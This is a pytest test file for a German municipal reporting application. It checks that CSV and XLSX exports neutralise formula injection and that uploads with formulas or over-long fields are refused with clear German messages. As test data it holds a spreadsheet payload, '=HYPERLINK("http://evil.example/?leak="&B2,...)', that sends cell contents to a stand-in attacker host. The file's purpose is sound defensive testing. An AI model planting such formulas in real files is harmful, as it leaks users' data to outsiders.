"""No formula from a user in any workbook or CSV the system writes (OWASP's CSV injection),
formulas refused in an uploaded workbook's text cells, and CSV files the csv module cannot
read refused in German instead of crashing."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
import sqlalchemy as sa

from models.cell_text import csv_text, csv_unescape
from models.db import session_scope
from models.strategy import MeasureStatus
from models.workbook import write_csv, write_xlsx
from models.workbook_layout import FigureRow, MeasureRow, Template
from models.workbook_read import read_sheets
from services.reports import render_report
from tests.conftest import row_counts
from tests.test_submissions import (
    FILLED,
    actuals_2026,
    berlin,
    fill,
    refused,
    review,
    submit,
    template,
)
from tests.test_submissions import evaluation as evaluation  # noqa: F401  (the fixture)
from tests.test_web_access import Web
from tests.test_web_access import web as web  # noqa: F401  (the fixture)
from tests.test_web_delivery import upload
from tests.webworld import visible_text

ATTACK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def csv_upload(engine: sa.Engine, body, comments: dict[str, str]) -> bytes:  # type: ignore[no-untyped-def]
    """The CSV template with the actuals and the given comments typed in."""
    rows = csv_rows(template(engine, body, fmt="csv"))
    for row in rows:
        if row[0] == "Kennzahlen" and row[1] in FILLED:
            row[6] = str(FILLED[row[1]]).replace(".", ",")
            row[7] = comments.get(row[1], "")
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows(rows)
    return ("\ufeff" + out.getvalue()).encode()


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_texts_that_look_like_formulas_get_a_quote_in_csv_and_lose_it_read_back(text) -> None:  # type: ignore[no-untyped-def]
    assert csv_text(text) == "'" + text
    assert csv_unescape(csv_text(text)) == text
    assert csv_text("Kommentar") == "Kommentar" and csv_unescape("'Zitat'") == "'Zitat'"


def test_a_comment_with_a_formula_sent_as_csv_is_a_text_cell_in_the_report(
    engine, evaluation
) -> None:
    submit(engine, evaluation, csv_upload(engine, evaluation, {"pv-leistung": ATTACK}), "u.csv")
    review(engine, evaluation, accept=True)
    assert actuals_2026(engine)["pv-leistung"] == (2980, ATTACK)
    with session_scope(engine) as session:
        report = render_report(session, evaluation, 2027, "xlsx", berlin(2, 20))
    book = openpyxl.load_workbook(io.BytesIO(report))
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == ATTACK
    ]
    assert cells and all(cell.data_type == "s" for cell in cells)
    xml = sheet_xml(report)
    assert "<f>" not in xml and "<f " not in xml and "HYPERLINK" in xml


def test_the_csv_and_xlsx_templates_write_texts_from_config_as_text() -> None:
    data = Template(
        body_slug="loerrach",
        body_name="=Kreis",
        cycle_year=2027,
        department_key="umwelt",
        department_name="@Umwelt",
        figures=[FigureRow("pv", "-Leistung", "kWp", 3000.0, -12.5, comment=ATTACK)],
        measures=[MeasureRow("m1", "+Ziel", "=Maßnahme", MeasureStatus.planned, ATTACK)],
    )
    rows = csv_rows(write_csv(data))
    figure = next(row for row in rows if row[:2] == ["Kennzahlen", "pv"])
    assert figure == ["Kennzahlen", "pv", "'-Leistung", "kWp", "3000", "-12,5", "", "'" + ATTACK]
    measure = next(row for row in rows if row[:2] == ["Maßnahmen", "m1"])
    assert measure[2:] == ["'+Ziel", "'=Maßnahme", MeasureStatus.planned.label, "'" + ATTACK]
    assert ["Info", "Name der Körperschaft", "'=Kreis"] in rows
    read = read_sheets(write_csv(data), "umwelt.csv")["Kennzahlen"]
    assert any(cells[:2] == ("pv", "-Leistung") and cells[6] == ATTACK for _, cells in read.rows)
    workbook = write_xlsx(data)
    xml = sheet_xml(workbook)
    assert "HYPERLINK" in xml and "<f>" not in xml and "<f " not in xml
    assert openpyxl.load_workbook(io.BytesIO(workbook))["Kennzahlen"]["G4"].data_type == "s"


def test_a_formula_in_an_uploaded_comment_or_status_cell_is_refused(engine, evaluation) -> None:
    def formulas(book) -> None:  # type: ignore[no-untyped-def]
        book["Kennzahlen"]["G4"] = ATTACK
        book["Maßnahmen"]["D4"] = '="umgesetzt"'

    message = refused(engine, evaluation, fill(template(engine, evaluation), edit=formulas))
    assert (
        "Kennzahlen Zeile 4, Spalte G (Kommentar): enthält eine Formel; hier ist nur Text "
        "erlaubt" in message
    )
    assert "Maßnahmen Zeile 4, Spalte D (Status): enthält eine Formel" in message


def test_a_comment_starting_with_a_formula_character_in_csv_is_text(engine, evaluation) -> None:
    data = csv_upload(engine, evaluation, {"pv-leistung": "-3 % wegen Lieferverzug"})
    submit(engine, evaluation, data, "umwelt.csv")
    review(engine, evaluation, accept=True)
    assert actuals_2026(engine)["pv-leistung"] == (2980, "-3 % wegen Lieferverzug")


def test_a_first_line_with_an_over_long_field_is_not_a_crash(engine, evaluation) -> None:
    data = ("Blatt;" + "z" * 200_000 + "\r\n").encode()
    assert "keine CSV-Datei der Vorlage" in refused(engine, evaluation, data, "umwelt.csv")


def cr_only(engine: sa.Engine, body) -> bytes:  # type: ignore[no-untyped-def]
    return csv_upload(engine, body, {}).decode("utf-8-sig").replace("\r\n", "\r").encode()


def too_long(engine: sa.Engine, body) -> bytes:  # type: ignore[no-untyped-def]
    return csv_upload(engine, body, {"klimaberatungen": "x" * 200_000})


def test_csv_with_cr_only_line_ends_is_read(engine, evaluation) -> None:
    submit(engine, evaluation, cr_only(engine, evaluation), "umwelt.csv")
    review(engine, evaluation, accept=True)
    assert actuals_2026(engine)["ausgleichsflaechen"] == (163.5, None)


def test_csv_with_an_over_long_field_is_refused_with_its_line(engine, evaluation) -> None:
    data = too_long(engine, evaluation)
    lines = data.decode("utf-8-sig").splitlines()
    line = next(n for n, text in enumerate(lines, start=1) if "x" * 1000 in text)
    assert lines[line - 1].startswith("Kennzahlen;klimaberatungen;")
    message = refused(engine, evaluation, data, "umwelt.csv")
    assert message == (
        f"Die Datei umwelt.csv wurde nicht übernommen: Zeile {line}: ein Feld ist länger als "
        "131.072 Zeichen."
    )


def test_cli_refuses_an_over_long_csv_field_without_a_traceback(
    engine, evaluation, cli, tmp_path
) -> None:
    path = tmp_path / "umwelt.csv"
    path.write_bytes(too_long(engine, evaluation))
    before = row_counts(engine)
    result = cli("submit", "2027", str(path), "--on", "2027-02-10")
    assert result.exit_code == 2
    assert (
        "umwelt.csv wurde nicht übernommen: Zeile 4: ein Feld ist länger als 131.072 Zeichen"
        in " ".join(result.stderr.split())
    )
    assert "Traceback" not in result.output + result.stderr
    assert row_counts(engine) == before


def test_web_refuses_an_over_long_csv_field_with_400(web: Web) -> None:
    department = web.login("umwelt")
    data = department.get("/cycles/2027/departments/umwelt/template.csv").content
    rows = csv_rows(data)
    for row in rows:
        if row[0] == "Kennzahlen" and row[1] in FILLED:
            row[6], row[7] = str(FILLED[row[1]]).replace(".", ","), "y" * 140_000
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows(rows)
    before = row_counts(web.engine)
    answer = upload(department, out.getvalue().encode(), "umwelt.csv")
    assert answer.status_code == 400
    assert "ein Feld ist länger als 131.072 Zeichen" in visible_text(answer.text)
    assert row_counts(web.engine) == before
